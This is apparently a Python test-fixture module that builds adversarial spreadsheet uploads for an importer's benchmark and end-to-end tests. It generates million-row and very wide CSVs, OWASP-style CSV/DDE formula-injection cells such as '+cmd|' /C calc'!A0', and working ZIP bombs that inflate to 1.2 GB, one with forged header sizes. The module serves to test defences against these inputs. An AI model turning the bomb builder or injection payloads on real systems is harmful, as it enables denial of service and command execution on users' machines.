"""Files shaped to make the importer spend memory or time: a million rows, thousands of
columns, ZIP bombs with honest and forged headers, formula cells.

Built in memory and deterministic, for the bench's adversarial shapes (``--sizes
adversarial``) and for tests/e2e/test_hostile_corpus.py. Every one fits the 10 MB upload
limit, so the upload has to read it: what it costs is the product's, not the transport's.
"""

import io
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache
from typing import IO, Final

import xlsxwriter

UPLOAD_LIMIT_BYTES: Final = 10 * 1024 * 1024
MILLION: Final = 1_000_000
WIDE_COLUMNS: Final = 16_000
WIDEST_ACCEPTED_COLUMNS: Final = 1_000  # hotmart_common.spreadsheet.width.MAX_COLUMNS
BOMB_INFLATED_BYTES: Final = 1200 * 1024 * 1024  # as the workbook the issue was found with
FORGED_DECLARED_BYTES: Final = 4096
SHEET_PART: Final = "xl/worksheets/sheet1.xml"
# Cells Excel would run: OWASP's CSV injection examples, one per leading character.
FORMULAS: Final = ('=HYPERLINK("http://example.com/?x="&A1,"open")', "+cmd|' /C calc'!A0",
                   "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1")


@dataclass(frozen=True)
class HostileFile:
    name: str           # a short label for tables
    file_name: str      # as uploaded
    build: Callable[[], bytes]
    accepted: bool      # whether the upload answers 201 (else 422)


def million_rejected_rows() -> bytes:
    """One e-mail column, a million rows none of which is an address: 2 MB, a million
    rejected rows for the parser to record."""
    return b"Email\n" + b"x\n" * MILLION


def million_buyers() -> bytes:
    """One e-mail column, a million different buyers in 10 MB: the most rows a file can
    bring the whole pipeline."""
    letters = b"abcdefghijklmnopqrstuvwxyz0123456789"
    rows = (bytes((letters[a], letters[b], letters[c], letters[d])) + b"@b.co\n"
            for a in range(36) for b in range(36) for c in range(36) for d in range(36))
    lines = [next(rows) for _ in range(MILLION)]
    return b"Email\n" + b"".join(lines)


def wide(columns: int) -> bytes:
    """An e-mail column and ``columns - 1`` others, as many rows as fit in 10 MB."""
    header = ";".join(["Email", *(f"C{index}" for index in range(1, columns))]) + "\n"
    filler = ";1" * (columns - 1) + "\n"
    rows = [header.encode()]
    size = len(rows[0])
    for number in range(MILLION):
        row = f"buyer{number}@example.com{filler}".encode()
        if size + len(row) > UPLOAD_LIMIT_BYTES:
            break
        rows.append(row)
        size += len(row)
    return b"".join(rows)


def formula_cells_csv() -> bytes:
    lines = ["Email;Nome;Produto;Valor;Código da transação"]
    for number, formula in enumerate(FORMULAS * 50):
        cell = '"' + formula.replace('"', '""') + '"'
        lines.append(f"formula{number}@example.com;{cell};{cell};10,00;HPF{number:010d}")
    return ("\r\n".join(lines) + "\r\n").encode()


def formula_cells_xlsx() -> bytes:
    """Real formulas in a workbook (with cached results), and formula-like text."""
    buffer = io.BytesIO()
    book = xlsxwriter.Workbook(buffer, {"in_memory": True, "strings_to_formulas": False})
    sheet = book.add_worksheet("Vendas")
    sheet.write_row(0, 0, ["Email", "Nome", "Produto", "Valor", "Código da transação"])
    for number, formula in enumerate(FORMULAS * 50, start=1):
        sheet.write_string(number, 0, f"formulax{number}@example.com")
        sheet.write_formula(number, 1, '=HYPERLINK("http://example.com","open")', None, "open")
        sheet.write_string(number, 2, formula)
        sheet.write_formula(number, 3, "=5+5", None, 10)
        sheet.write_string(number, 4, f"HPX{number:010d}")
    book.close()
    return buffer.getvalue()


def zip_bomb_honest() -> bytes:
    """A workbook whose sheet inflates to 1.2 GB, and whose headers say so."""
    return _bomb()


def zip_bomb_forged() -> bytes:
    """The same workbook, its sheet's headers (local and central) claiming 4 KB."""
    data = bytearray(_bomb())
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as archive:
        local_at = archive.getinfo(SHEET_PART).header_offset
    struct.pack_into("<I", data, local_at + 22, FORGED_DECLARED_BYTES)
    struct.pack_into("<I", data, _central_entry(data, SHEET_PART) + 24, FORGED_DECLARED_BYTES)
    return bytes(data)


def _central_entry(data: bytearray, name: str) -> int:
    # The end record gives where the central directory starts; its entries follow.
    end = data.rindex(b"PK\x05\x06")
    position: int = struct.unpack_from("<I", data, end + 16)[0]
    while data[position:position + 4] == b"PK\x01\x02":
        name_length, extra_length, comment_length = struct.unpack_from("<HHH", data, position + 28)
        if data[position + 46:position + 46 + name_length] == name.encode():
            return position
        position += 46 + name_length + extra_length + comment_length
    raise ValueError(f"{name} is not in the central directory")


@cache
def _bomb() -> bytes:
    # Every row holds a buyer, so a reader that believed the sheet would hold 20 million
    # cells. Deflate repeats the row at about 1 000 : 1, so 1.2 GB fit in 1.2 MB.
    source = zipfile.ZipFile(io.BytesIO(_small_workbook()))
    out = io.BytesIO()
    with source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as bomb:
        for info in source.infolist():
            if info.filename != SHEET_PART:
                bomb.writestr(info, source.read(info))
        entry = zipfile.ZipInfo(SHEET_PART, date_time=(1980, 1, 1, 0, 0, 0))
        entry.compress_type = zipfile.ZIP_DEFLATED
        with bomb.open(entry, "w") as sheet:
            _write_inflating_sheet(sheet)
    return out.getvalue()


def _write_inflating_sheet(sheet: IO[bytes]) -> None:
    write = sheet.write
    write(b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
          b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
          b'<sheetData><row><c t="inlineStr"><is><t>Email</t></is></c></row>')
    row = b'<row><c t="inlineStr"><is><t>bomb@example.com</t></is></c></row>'
    block = row * (1024 * 1024 // len(row))
    for _ in range(BOMB_INFLATED_BYTES // len(block)):
        write(block)
    write(b"</sheetData></worksheet>")


def _small_workbook() -> bytes:
    buffer = io.BytesIO()
    book = xlsxwriter.Workbook(buffer, {"in_memory": True})
    book.add_worksheet("Vendas").write_row(0, 0, ["Email"])
    book.close()
    return buffer.getvalue()

